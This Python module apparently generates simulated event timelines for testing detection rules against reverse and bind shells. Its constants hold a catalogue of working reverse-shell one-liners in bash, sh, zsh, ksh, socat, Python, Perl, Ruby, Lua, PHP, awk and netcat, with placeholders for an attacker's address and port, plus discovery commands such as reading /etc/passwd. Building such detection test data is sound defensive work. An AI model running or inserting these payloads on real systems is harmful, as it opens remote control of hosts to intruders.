"""Attacks: reverse and bind shells, each of which matches one of the two rules exactly once.

An attack has processes of its own, so that nothing else on its host can join or break the sequence. Its events beside
the two stages (initial access, commands in the shell) have other entities, or come after the match is complete.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from functools import partial

from runner.sample_data.addresses import Endpoint, attacker
from runner.sample_data.command_lines import shell
from runner.sample_data.processes import Process, SampleProgram
from runner.sample_data.timeline import MILLISECOND, Timeline, TimelineStep

SECOND = 1_000 * MILLISECOND
Pair = tuple[str, str]
"""The ids of the events of the two stages, in the order of the stages."""


@dataclass(frozen=True, slots=True)
class Scene:
    """The timelines that an item may use: of two Linux hosts and a Windows host."""

    here: Timeline
    elsewhere: Timeline
    windows: Timeline

    def steps(self) -> list[TimelineStep]:
        """The steps of all three hosts."""
        return [*self.here.steps, *self.elsewhere.steps, *self.windows.steps]


Attack = Callable[[Scene, int], Pair]


def gap_for(scene: Scene, turn: int, *, same_instant: bool) -> int:
    """The nanoseconds between the stages of the `turn`-th attack: at most one second, the rules' maxspan.

    Of every five, one takes exactly a second and one the least: nothing where the stages may share an instant, else a
    millisecond, since an index with millisecond resolution orders stages in two data streams by time only. The others
    keep a whole millisecond from both limits.
    """
    match turn % 5:
        case 1:
            return SECOND
        case 3:
            return 0 if same_instant else MILLISECOND
        case 4:
            return 999 * MILLISECOND
        case _:
            resolution: int = scene.here.machine.resolution
            gap = scene.here.rng.randrange(3 * MILLISECOND, 900 * MILLISECOND)
            return gap // resolution * resolution


def way_in(line: Timeline) -> Process:
    """Initial access: the shell of a login, or one that an exploited service started."""
    services = line.machine.services
    doors = [services[key] for key in ("php", "apache", "gunicorn", "java", "jenkins", "postgres") if key in services]
    if not doors or line.rng.random() < 0.4:
        return line.rng.choice(line.machine.sessions)
    script = line.words.text("cd /tmp; sh ./.<word><d>.sh")
    process = line.run(line.rng.choice(doors), shell(line.machine.host.image.shell, script))
    line.wait(2_000, 40_000)
    return process


def look_around(line: Timeline, inside: Process) -> None:
    """Discovery commands in the shell, then the end of the shell."""
    for command in ("/usr/bin/id id", "/usr/bin/uname uname -a", "/usr/bin/cat cat /etc/passwd"):
        if line.rng.random() < 0.5:
            line.wait(9_000, 90_000)
            line.whole_life(inside, line.words.program(command))
    line.wait(9_000, 90_000)
    line.end(inside)


def to_address(pattern: str, remote: Endpoint) -> str:
    """The pattern with ADDRESS and PORT replaced by the attacker's."""
    return pattern.replace("ADDRESS", remote.address).replace("PORT", str(remote.port))


# A shell connects, then starts a shell.

SHELL_CHILDREN = ("bash", "dash", "sh", "zsh", "ksh", "fish", "tcsh", "csh")


def shell_connects(
    scene: Scene, gap: int, *, name: str, script: str, how: str = "fork", six: bool = False, accepted: bool = False
) -> Pair:
    """A shell opens or accepts a connection, then starts a shell: by `how`, a fork, an exec or one whole document."""
    line = scene.here
    remote = attacker(line.rng, six=six, local_port=4444 if accepted else 0)
    args = tuple(to_address(part, remote) for part in (name, "-c", script))
    opener = line.run(way_in(line), SampleProgram(f"/usr/bin/{name}", args))
    line.wait(1_000, 60_000)
    if how == "retry":
        line.connect(opener, remote)
        line.wait(90_000, 300_000)
    first = line.accept(opener, remote) if accepted else line.connect(opener, remote)
    line.now += gap
    child, second = _child_shell(line, opener, how=how)
    if how == "twice":
        line.wait(5_000, 50_000)
        line.end(line.fork(opener))
    look_around(line, child)
    line.disconnect(opener, remote)
    line.end(opener)
    return first, second


def _child_shell(line: Timeline, opener: Process, *, how: str) -> tuple[Process, str]:
    name = line.rng.choice(SHELL_CHILDREN)
    program = SampleProgram(f"/usr/bin/{name}", (f"/bin/{name}", "-i"))
    if how == "exec":
        child = line.spawn(opener, program)
    elif how == "whole":
        child = line.fork(opener)
        child.run(program)
        line.steps.pop()
        line.add_process(child, ["fork", "exec", "end"], types=["start", "end"], exit_code=0)
    else:
        child = line.fork(opener)
    return child, line.last_id


def socat_connects(scene: Scene, gap: int, *, listens: bool = False) -> Pair:
    """The relay program opens or accepts a connection; a child of it then executes a shell."""
    line = scene.here
    remote = attacker(line.rng, local_port=4444 if listens else 0)
    far = "TCP-LISTEN:4444,reuseaddr,fork" if listens else to_address("TCP:ADDRESS:PORT", remote)
    program = SampleProgram("/usr/bin/socat", ("socat", far, "EXEC:'bash -li',pty,stderr,setsid,sigint,sane"))
    opener = line.run(way_in(line), program)
    line.wait(1_000, 60_000)
    first = line.accept(opener, remote) if listens else line.connect(opener, remote)
    child = line.fork(opener)
    line.now += gap
    second = line.execute(child, SampleProgram("/usr/bin/bash", ("bash", "-li")))
    look_around(line, child)
    line.end(opener)
    return first, second


BASH = "bash -i >& /dev/tcp/ADDRESS/PORT 0>&1"
LOOP = "exec 5<>/dev/tcp/ADDRESS/PORT; cat <&5 | while read line; do $line 2>&5 >&5; done"
SH = "0<&196;exec 196<>/dev/tcp/ADDRESS/PORT; sh <&196 >&196 2>&196"
ZSH = "zmodload zsh/net/tcp && ztcp ADDRESS PORT && zsh >&$REPLY 2>&$REPLY 0>&$REPLY"
KSH = "ksh -i <> /dev/tcp/ADDRESS/PORT 1>&0 2>&0"
ACCEPT = "enable accept; accept -b 0.0.0.0 -v fd 4444; bash -i <&$fd >&$fd 2>&1"

REVERSE_SHELL_ATTACKS: tuple[tuple[str, Attack], ...] = (
    ("bash /dev/tcp", partial(shell_connects, name="bash", script=BASH)),
    ("socat exec", socat_connects),
    ("sh /dev/tcp", partial(shell_connects, name="sh", script=SH)),
    ("bash /dev/tcp, other shell", partial(shell_connects, name="bash", script=BASH, how="exec")),
    ("zsh ztcp", partial(shell_connects, name="zsh", script=ZSH)),
    ("bash /dev/tcp over IPv6", partial(shell_connects, name="bash", script=BASH, six=True)),
    ("ksh /dev/tcp", partial(shell_connects, name="ksh", script=KSH, how="exec")),
    ("bash accepts", partial(shell_connects, name="bash", script=ACCEPT, accepted=True)),
    ("bash read loop", partial(shell_connects, name="bash", script=LOOP, how="twice")),
    ("socat listens", partial(socat_connects, listens=True)),
    ("bash connects twice", partial(shell_connects, name="bash", script=BASH, how="retry")),
    ("zsh ztcp, other shell", partial(shell_connects, name="zsh", script=ZSH, how="exec")),
    ("bash, child in one document", partial(shell_connects, name="bash", script=BASH, how="whole")),
    ("dash connects", partial(shell_connects, name="dash", script=SH, how="exec")),
)


# A utility starts, then connects.

PARENTS: tuple[SampleProgram, ...] = (
    SampleProgram("/usr/bin/bash", ("bash", "/tmp/.x/run.sh")),
    SampleProgram("/usr/bin/sh", ("sh", "/dev/shm/up.sh")),
    SampleProgram("/usr/bin/dash", ("/bin/sh", "/var/tmp/u")),
    SampleProgram("/usr/bin/python3", ("python3", "/tmp/stage.py")),
    SampleProgram("/usr/bin/perl", ("perl", "/tmp/stage.pl")),
    SampleProgram("/usr/bin/php8.3", ("php", "/var/www/html/uploads/avatar.php")),
    SampleProgram("/usr/bin/zsh", ("zsh", "/tmp/up.zsh")),
    SampleProgram("/usr/bin/ruby", ("ruby", "/tmp/stage.rb")),
    SampleProgram("/usr/bin/lua5.4", ("lua", "/tmp/stage.lua")),
    SampleProgram("/usr/bin/awk", ("awk", "-f", "/tmp/stage.awk")),
    SampleProgram("/usr/bin/ksh", ("ksh", "/tmp/up.ksh")),
    SampleProgram("/usr/bin/fish", ("fish", "/tmp/up.fish")),
    SampleProgram("/usr/bin/tcsh", ("tcsh", "/tmp/up.csh")),
    SampleProgram("/usr/bin/csh", ("csh", "/tmp/up.csh")),
    SampleProgram("/usr/bin/nc", ("nc", "-lp", "4001")),
)


def stager(line: Timeline) -> Process:
    """The process that starts the utility: the shell of the initial access, or a script that it runs."""
    entry = way_in(line)
    if line.rng.random() < 0.3:
        return entry
    process = line.run(entry, line.rng.choice(PARENTS))
    line.wait(1_000, 60_000)
    return process


def utility_connects(
    scene: Scene, gap: int, *, command: str, script: str = "", how: str = "", six: bool = False, accepted: bool = False
) -> Pair:
    """A shell or an interpreter starts a utility, which opens or accepts a connection."""
    line = scene.here
    remote = attacker(line.rng, six=six, local_port=4444 if accepted else 0)
    process = line.run(stager(line), utility(line, command, remote, script=script))
    first = line.last_id
    if how == "fork":
        line.wait(2_000, 60_000)
        process = line.fork(process)
        first = line.last_id
    line.now += gap
    second = line.accept(process, remote) if accepted else line.connect(process, remote)
    if how == "retry":
        line.wait(20_000, 300_000)
        line.connect(process, remote)
    line.wait(3_000, 60_000)
    child = line.run(process, SampleProgram(line.machine.host.image.shell, ("/bin/sh", "-i")))
    look_around(line, child)
    line.disconnect(process, remote)
    line.end(process)
    return first, second


def utility(line: Timeline, command: str, remote: Endpoint, *, script: str = "") -> SampleProgram:
    """The program of a command: its file and its arguments, with a blank between two.

    PYTHON stands for the interpreter of the host's distribution, SCRIPT for `script`, which may have blanks.
    """
    path, *args = (part if part != "SCRIPT" else script for part in command.split())
    executable = line.machine.host.image.python if path == "PYTHON" else path
    return SampleProgram(executable, tuple(to_address(part, remote) for part in args))


PYTHON_CALL = (
    'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("ADDRESS",PORT));'
    'os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call(["/bin/sh","-i"])'
)
PYTHON_PTY = (
    'import socket,os,pty;s=socket.socket();s.connect(("ADDRESS",PORT));'
    '[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn("/bin/bash")'
)
PERL_EXEC = (
    'use Socket;$i="ADDRESS";$p=PORT;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
    'if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};'
)
PERL_SYSTEM = 'use IO::Socket::INET;$c=new IO::Socket::INET("ADDRESS:PORT");while(<$c>){print $c `$_`;system($_);}'
RUBY = 'c=TCPSocket.new("ADDRESS","PORT");while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end'
RUBY_OPEN = 'f=TCPSocket.open("ADDRESS",PORT).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'
LUA = "require('socket');t=socket.tcp();t:connect('ADDRESS','PORT');os.execute('/bin/sh -i <&3 >&3 2>&3');"
LUA_POPEN = (
    "local s=require('socket');local t=assert(socket.tcp());t:connect('ADDRESS',PORT);"
    "while true do local c=t:receive();local f=io.popen(c,'r');t:send(f:read('*a'));f:close();end"
)
PHP = '$sock=fsockopen("ADDRESS",PORT);exec("/bin/sh -i <&3 >&3 2>&3");'
AWK = (
    'BEGIN {s = "/inet/tcp/0/ADDRESS/PORT"; while(42) { do{ printf "> " |& s; s |& getline c; '
    'if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") close(s); }}'
)

CHILD_PROCESS_ATTACKS: tuple[tuple[str, Attack], ...] = (
    ("python subprocess", partial(utility_connects, command="PYTHON python3 -c SCRIPT", script=PYTHON_CALL)),
    ("perl exec", partial(utility_connects, command="/usr/bin/perl perl -e SCRIPT", script=PERL_EXEC)),
    ("nc -e", partial(utility_connects, command="/usr/bin/nc nc -e /bin/sh ADDRESS PORT")),
    ("ruby -rsocket", partial(utility_connects, command="/usr/bin/ruby ruby -rsocket -e SCRIPT", script=RUBY)),
    ("php fsockopen", partial(utility_connects, command="/usr/bin/php8.3 php -r SCRIPT", script=PHP)),
    ("python pty", partial(utility_connects, command="PYTHON python3 -c SCRIPT", script=PYTHON_PTY, how="retry")),
    ("awk /inet/tcp", partial(utility_connects, command="/usr/bin/awk awk SCRIPT /dev/null", script=AWK)),
    (
        "openssl -connect",
        partial(utility_connects, command="/usr/bin/openssl openssl s_client -quiet -connect ADDRESS:PORT"),
    ),
    ("lua os.execute", partial(utility_connects, command="/usr/bin/lua5.4 lua5.4 -e SCRIPT", script=LUA)),
    ("telnet", partial(utility_connects, command="/usr/bin/telnet telnet ADDRESS PORT")),
    ("python forks", partial(utility_connects, command="PYTHON python3 -c SCRIPT", script=PYTHON_PTY, how="fork")),
    ("nc -e listens", partial(utility_connects, command="/usr/bin/nc nc -l -p 4444 -e /bin/bash", accepted=True)),
    ("perl -E system", partial(utility_connects, command="/usr/bin/perl perl -E SCRIPT", script=PERL_SYSTEM)),
    ("ncat -e over IPv6", partial(utility_connects, command="/usr/bin/ncat ncat -6 ADDRESS PORT -e /bin/sh", six=True)),
    (
        "ruby TCPSocket.open",
        partial(utility_connects, command="/usr/bin/ruby ruby -rsocket -e SCRIPT", script=RUBY_OPEN),
    ),
    ("netcat -e", partial(utility_connects, command="/usr/bin/netcat netcat ADDRESS PORT -e /bin/sh")),
    ("lua io.popen", partial(utility_connects, command="/usr/bin/lua5.4 lua5.4 -e SCRIPT", script=LUA_POPEN)),
)
